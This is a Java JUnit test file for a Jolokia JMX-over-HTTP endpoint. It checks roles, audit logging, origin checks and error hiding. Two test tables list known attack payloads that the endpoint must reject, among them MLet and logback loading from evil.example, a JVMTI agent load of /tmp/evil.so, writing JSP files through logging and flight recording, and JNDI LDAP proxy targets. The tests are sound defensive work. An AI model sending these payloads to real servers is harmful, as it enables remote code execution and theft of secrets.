package io.portcullis.host.http;

import static org.assertj.core.api.Assertions.assertThat;

import com.codahale.metrics.MetricRegistry;
import com.fasterxml.jackson.databind.JsonNode;
import io.portcullis.host.config.Home;
import io.portcullis.host.server.Json;
import io.portcullis.host.server.ScriptedServer;
import io.portcullis.model.gate.Scope;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** The MBeans over HTTP, and the ways in which other servers' were broken into. All of them are tried with the admin token. */
class JolokiaDoorTest {
    private static final String KILL = """
            {"type":"exec","mbean":"io.portcullis:type=KillSwitch","operation":"kill","arguments":["global","drill"]}""";
    private static final String RESUME = """
            {"type":"exec","mbean":"io.portcullis:type=KillSwitch","operation":"resume","arguments":["global","over"]}""";
    private static final String PHASE = """
            {"type":"read","mbean":"io.portcullis:type=Session","attribute":"Phase"}""";

    @TempDir
    private Path folder;

    private final ScriptedServer server = new ScriptedServer();
    private OpenDoors doors;

    @BeforeEach
    void open() {
        doors = OpenDoors.on(new Home(folder, folder), server, new MetricRegistry());
    }

    @AfterEach
    void close() {
        doors.close();
    }

    private HttpResponse<String> ask(String authorization, String document) {
        return doors.send(authorization, "POST", "/jolokia", document);
    }

    private String admin() {
        return doors.admin().authorization();
    }

    @Test
    void shouldReadAndDoInTheNameOfWhoAsks() throws IOException {
        String officer = doors.login("ann", List.of("officer"), List.of());

        JsonNode read = Json.tree(ask(officer, PHASE).body());
        JsonNode killed = Json.tree(ask(officer, KILL).body());

        assertThat(read.path("value").asText()).isEqualTo("READY");
        assertThat(killed.path("value").path("unresolved").asText()).isEqualTo("1");
        assertThat(server.asked).containsExactly(Scope.GLOBAL);
        assertThat(server.by).containsExactly("ann");
        doors.close();
        assertThat(audit())
                .anySatisfy(line -> assertThat(line)
                        .contains(
                                "\"who\":\"ann\"",
                                "exec KillSwitch kill",
                                "\"on\":\"global\"",
                                "DONE",
                                "drill",
                                ":15,"));
    }

    @Test
    void shouldDoNothingOfABulkWhenOneOfItIsNotPermitted() {
        String officer = doors.login("ann", List.of("officer"), List.of());

        HttpResponse<String> answer = ask(officer, "[" + PHASE + "," + KILL + "," + RESUME + "]");

        assertThat(answer.statusCode()).isEqualTo(403);
        assertThat(answer.body()).contains("one of the roles approver, admin").contains("ann is officer");
        assertThat(server.asked).isEmpty();
        doors.close();
        assertThat(audit()).anySatisfy(line -> assertThat(line).contains("KillSwitch resume", "REFUSED"));
    }

    @Test
    void shouldAnswerAWholeBulkInOrder() throws IOException {
        JsonNode answers = Json.tree(
                ask(admin(), "[" + PHASE + "," + KILL + "," + PHASE + "]").body());

        assertThat(answers).hasSize(3);
        assertThat(answers.path(2).path("value").asText()).isEqualTo("READY");
    }

    /** Names of the family, what was sent, and what it would have reached. */
    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
            MLet by createMBean     | {'type':'exec','mbean':'JMImplementation:type=MBeanServerDelegate','operation':'createMBean','arguments':['javax.management.loading.MLet','x:name=x']}
            MLet                    | {'type':'exec','mbean':'DefaultDomain:type=MLet','operation':'getMBeansFromURL','arguments':['http://evil.example/m']}
            agent into this JVM     | {'type':'exec','mbean':'com.sun.management:type=DiagnosticCommand','operation':'jvmtiAgentLoad','arguments':['/tmp/evil.so']}
            log into a file         | {'type':'exec','mbean':'com.sun.management:type=DiagnosticCommand','operation':'vmLog','arguments':['output=/tmp/x.jsp']}
            compiler directives     | {'type':'exec','mbean':'com.sun.management:type=DiagnosticCommand','operation':'compilerDirectivesAdd','arguments':['/etc/passwd']}
            recording into a file   | {'type':'exec','mbean':'jdk.management.jfr:type=FlightRecorder','operation':'copyTo','arguments':['1','/tmp/x.jsp']}
            recording's settings    | {'type':'exec','mbean':'jdk.management.jfr:type=FlightRecorder','operation':'setConfiguration','arguments':['1','<%']}
            heap into a file        | {'type':'exec','mbean':'com.sun.management:type=HotSpotDiagnostic','operation':'dumpHeap','arguments':['/tmp/x','true']}
            flags of the JVM        | {'type':'exec','mbean':'com.sun.management:type=HotSpotDiagnostic','operation':'setVMOption','arguments':['HeapDumpPath','/x']}
            logback by URL          | {'type':'exec','mbean':'ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator','operation':'reloadByURL','arguments':['http://evil.example/l.xml']}
            log levels              | {'type':'exec','mbean':'java.util.logging:type=Logging','operation':'setLoggerLevel','arguments':['','ALL']}
            Artemis connector       | {'type':'exec','mbean':'org.apache.activemq.artemis:broker=\\'b\\'','operation':'addConnector','arguments':['x','tcp://evil.example']}
            Log4j configuration     | {'type':'exec','mbean':'org.apache.logging.log4j2:type=x','operation':'setConfigText','arguments':['x','utf-8']}
            secrets in properties   | {'type':'read','mbean':'java.lang:type=Runtime','attribute':'SystemProperties'}
            arguments of the JVM    | {'type':'read','mbean':'java.lang:type=Runtime','attribute':'InputArguments'}
            all of a domain         | {'type':'read','mbean':'java.lang:*'}
            all of ours by pattern  | {'type':'read','mbean':'io.portcullis:*'}
            exec by pattern         | {'type':'exec','mbean':'io.portcullis:*','operation':'kill','arguments':['global','x']}
            exec on everything      | {'type':'exec','mbean':'*:*','operation':'kill','arguments':['global','x']}
            operation by pattern    | {'type':'exec','mbean':'io.portcullis:type=KillSwitch','operation':'*','arguments':['global']}
            operation of Object     | {'type':'exec','mbean':'io.portcullis:type=KillSwitch','operation':'getClass'}
            getter as an operation  | {'type':'exec','mbean':'io.portcullis:type=KillSwitch','operation':'getStates'}
            signature               | {'type':'exec','mbean':'io.portcullis:type=KillSwitch','operation':'resume(java.lang.String)','arguments':['global']}
            metric's operation      | {'type':'exec','mbean':'io.portcullis.metrics:name=x,type=counters','operation':'objectName'}
            Jolokia's own           | {'type':'exec','mbean':'jolokia:type=ServerHandler,agent=portcullis','operation':'mBeanServersInfo'}
            name that looks like us | {'type':'read','mbean':'io.portcullis.evil:type=Session'}
            name in our domain      | {'type':'read','mbean':'io.portcullis:type=Session,x=y'}
            """)
    void shouldRefuseWhatReachesForOtherMBeans(String what, String document) throws IOException {
        assertThat(document).as(what).isNotNull();

        HttpResponse<String> answer =
                ask(admin(), document.replace("\\'", "\u0027").replace('\'', '"'));

        assertThat(answer.statusCode()).as(what + ": " + answer.body()).isIn(400, 403);
        assertThat(server.asked).isEmpty();
        assertThat(answer.body()).doesNotContain("java.home", "Exception");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
            proxy                 | {'type':'read','mbean':'io.portcullis:type=Session','attribute':'Phase','target':{'url':'service:jmx:rmi:///jndi/ldap://evil.example:1389/o'}}
            proxy of a bulk       | [{'type':'read','mbean':'io.portcullis:type=Session','attribute':'Phase'},{'type':'list','target':{'url':'service:jmx:rmi:///jndi/rmi://evil.example/o'}}]
            stack traces          | {'type':'read','mbean':'io.portcullis:type=Session','attribute':'X','config':{'includeStackTrace':'true','serializeException':'true'}}
            write                 | {'type':'write','mbean':'io.portcullis:type=Session','attribute':'Phase','value':'STOPPED'}
            notifications         | {'type':'notification','command':'register'}
            version               | {'type':'version'}
            configuration         | {'type':'config'}
            path into a value     | {'type':'list','path':'java.lang'}
            ignore errors         | {'type':'read','mbean':'io.portcullis:type=Session','ignoreErrors':true}
            type twice            | {'type':'list','type':'exec','mbean':'io.portcullis:type=Session','operation':'stop'}
            type in capitals      | {'type':'EXEC','mbean':'io.portcullis:type=Session','operation':'stop'}
            type left out         | {'mbean':'io.portcullis:type=Session','operation':'stop'}
            an array as a name    | {'type':'read','mbean':['java.lang:type=Memory']}
            an object as argument | {'type':'exec','mbean':'io.portcullis:type=Session','operation':'stop','arguments':[{'a':1}]}
            no name at all        | {'type':'read','mbean':'***'}
            nothing               | []
            no JSON               | {'type':
            something behind it   | {'type':'list'} {'type':'exec'}
            """)
    void shouldRefuseWhatItDoesNotSpeak(String what, String document) {
        HttpResponse<String> answer = ask(admin(), document.replace('\'', '"'));

        assertThat(answer.statusCode()).as(what + ": " + answer.body()).isEqualTo(400);
        assertThat(server.asked).isEmpty();
    }

    @Test
    void shouldRefuseMoreRequestsThanItCounts() {
        assertThat(ask(admin(), "[" + (KILL + ",").repeat(64) + KILL + "]").statusCode())
                .isEqualTo(400);
        assertThat(server.asked).isEmpty();
    }

    @Test
    void shouldNotTakeAGetOrWhatAPageOfAnotherOriginCanSend() {
        String exec = "/jolokia/exec/io.portcullis:type=KillSwitch/resume/global";
        for (String path : List.of(exec, "/jolokia/version", "/jolokia/read/java.lang:type=Memory", "/jolokia/list")) {
            assertThat(doors.send(admin(), "GET", path, "").statusCode()).isEqualTo(404);
            assertThat(doors.send("", "GET", path, "").statusCode()).isEqualTo(401);
        }
        assertThat(doors.send(admin(), "GET", "/jolokia", "").statusCode()).isEqualTo(405);
        for (String type : List.of("text/plain", "application/x-www-form-urlencoded", "multipart/form-data")) {
            assertThat(from("", type).statusCode()).as(type).isEqualTo(415);
        }
        for (String origin : List.of(
                "http://evil.example",
                "null",
                "http://127.0.0.1",
                "http://127.0.0.1:1",
                "http://localhost:" + doors.port(),
                "https://127.0.0.1:" + doors.port(),
                "http://127.0.0.1:" + doors.port() + ".evil.example")) {
            HttpResponse<String> answer = from(origin, "application/json");
            assertThat(answer.statusCode()).as(origin).isEqualTo(403);
            assertThat(answer.headers().map()).doesNotContainKey("access-control-allow-origin");
        }
        assertThat(server.asked).isEmpty();
        assertThat(from("http://127.0.0.1:" + doors.port(), "application/json; charset=utf-8")
                        .statusCode())
                .isEqualTo(200);
        assertThat(server.asked).containsExactly(Scope.GLOBAL);
    }

    private HttpResponse<String> from(String origin, String contentType) {
        HttpRequest.Builder request = HttpRequest.newBuilder(
                        URI.create("http://127.0.0.1:" + doors.port() + "/jolokia"))
                .header("Authorization", admin())
                .header("Content-Type", contentType)
                .POST(BodyPublishers.ofString(KILL));
        if (!origin.isEmpty()) {
            request.header("Origin", origin);
        }
        return doors.send(request);
    }

    @Test
    void shouldTellARefusalOfTheServerAndKeepADefectToItself() throws IOException {
        JsonNode none = Json.tree(ask(admin(), """
                {"type":"exec","mbean":"io.portcullis:type=Plugins","operation":"remove","arguments":["none"]}""").body());
        JsonNode absent = Json.tree(ask(admin(), """
                {"type":"read","mbean":"io.portcullis:type=Session","attribute":"Absent"}""").body());
        HttpResponse<String> many = ask(admin(), """
                {"type":"exec","mbean":"io.portcullis:type=Session","operation":"stop","arguments":["now"]}""");

        assertThat(none.path("error").asText()).contains("no plugin 'none'");
        assertThat(none.has("error_type")).isFalse();
        assertThat(none.has("stacktrace")).isFalse();
        assertThat(absent.path("status").asInt()).isEqualTo(404);
        assertThat(many.statusCode()).isEqualTo(400);
        assertThat(many.body()).contains("operation stop has 0 arguments");
        assertThat(server.asked).isEmpty();
    }

    private List<String> audit() {
        try (Stream<Path> files = Files.list(folder.resolve("audit"))) {
            return Files.readAllLines(files.findFirst().orElseThrow());
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }
}
